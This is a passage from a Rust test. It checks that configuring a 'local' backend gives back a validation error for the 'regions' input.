    inputs.backend = Some("local".into());
    let refused = configure::<Local>(&inputs, &context()).unwrap_err().0;
    assert!(
        refused.iter().any(|error| error.input == "regions"),
        "{refused:?}"
    );
}
